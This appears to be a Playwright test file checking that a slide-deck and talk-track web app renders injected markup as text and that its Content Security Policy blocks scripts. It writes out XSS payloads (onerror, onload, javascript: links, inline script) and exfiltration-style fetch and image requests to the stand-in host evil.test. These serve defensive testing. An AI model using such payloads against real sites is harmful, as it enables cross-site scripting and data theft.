import { test as plain } from '@playwright/test'
import { createProject, generate, importDeck, openStep, signUp, toasts } from './support/actions.ts'
import { expect, test } from './support/test.ts'

const OWN = 'window.owned = true'
const MARKUP = `<img src=x onerror="${OWN}"><svg onload="${OWN}"></svg>`
const deck = [
  '---\nmarp: true\n---\n',
  `# Lamps ${MARKUP}\n\n<script>${OWN}</script>\n\n- A lamp &lt;script&gt;${OWN}&lt;/script&gt; shines\n`,
  `# Ships ${MARKUP}\n\n- [A link](javascript:${encodeURIComponent(OWN)}) leads home\n\n<!-- <b onclick="${OWN}">note</b> -->\n`,
].join('\n---\n\n')

/** Nothing on the page came from the text as an element, and nothing of it ran. */
async function expectHarmless(page: import('@playwright/test').Page) {
  const main = page.locator('body')
  await expect(main.locator('img[src="x"], [onerror], [onload], [onclick]')).toHaveCount(0)
  await expect(main.locator('a[href^="javascript:" i]')).toHaveCount(0)
  expect(await page.evaluate(() => 'owned' in window)).toBe(false)
}

test('Markup in names, decks and what a model wrote is text wherever it is shown', async ({ page }) => {
  await signUp(page)
  const name = `Harbour ${MARKUP}`
  await createProject(page, name)
  await expectHarmless(page)
  await openStep(page, 'Deck structure')
  await importDeck(page, `${MARKUP}.md`, deck)
  await expect(page.getByRole('list', { name: 'Slides' })).toBeVisible()
  await expectHarmless(page)
  await openStep(page, 'Talk track')
  await generate(page)
  await expect(toasts(page, 'ready').first()).toBeVisible({ timeout: 20_000 })
  await expectHarmless(page)
  await page.getByRole('main').getByRole('link', { name: 'View / Edit' }).click()
  await expect(page.getByRole('list', { name: 'Scripts' })).toBeVisible()
  await expectHarmless(page)
  const file = page.waitForEvent('download')
  await page.getByRole('link', { name: 'Export Markdown' }).click()
  expect((await file).suggestedFilename()).not.toMatch(/[<>"/\\]/)
  await page.goto('/jobs')
  await page.getByRole('tab', { name: 'Completed' }).click()
  await expect(page.getByRole('tabpanel').getByRole('listitem')).toHaveCount(1)
  await expectHarmless(page)
  await page.goto('/projects')
  await expect(page.getByText('Harbour <img')).toBeVisible()
  await expectHarmless(page)
})

// Without the fixture that fails on errors in the console: the browser reports each violation there too.
plain('A script that gets into a page does not run, and reaches no other site', async ({ page }) => {
  await page.goto('/sign-in')
  const blocked = await page.evaluate(async (own) => {
    const directives: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => {
      directives.push(event.effectiveDirective)
    })
    const inline = document.createElement('script')
    inline.textContent = own
    document.body.append(inline)
    const holder = document.createElement('div')
    holder.innerHTML = `<b onclick="${own}">x</b><iframe src="https://evil.test"></iframe><object data="https://evil.test"></object>`
    document.body.append(holder)
    holder.querySelector('b')?.click()
    const base = document.createElement('base')
    base.href = 'https://evil.test/'
    document.head.append(base)
    await fetch('https://evil.test/?stolen').catch(() => undefined)
    const form = document.createElement('form')
    form.action = 'https://evil.test/'
    document.body.append(form)
    form.submit()
    const image = new Image()
    await new Promise((resolve) => {
      image.onerror = resolve
      image.src = 'https://evil.test/?stolen'
    })
    return directives
  }, OWN)
  expect(new Set(blocked)).toEqual(
    new Set([
      'script-src-elem',
      'script-src-attr',
      'frame-src',
      'object-src',
      'base-uri',
      'connect-src',
      'form-action',
      'img-src',
    ]),
  )
  expect(await page.evaluate(() => 'owned' in window)).toBe(false)
  await expect(page).toHaveURL(/\/sign-in$/)
})
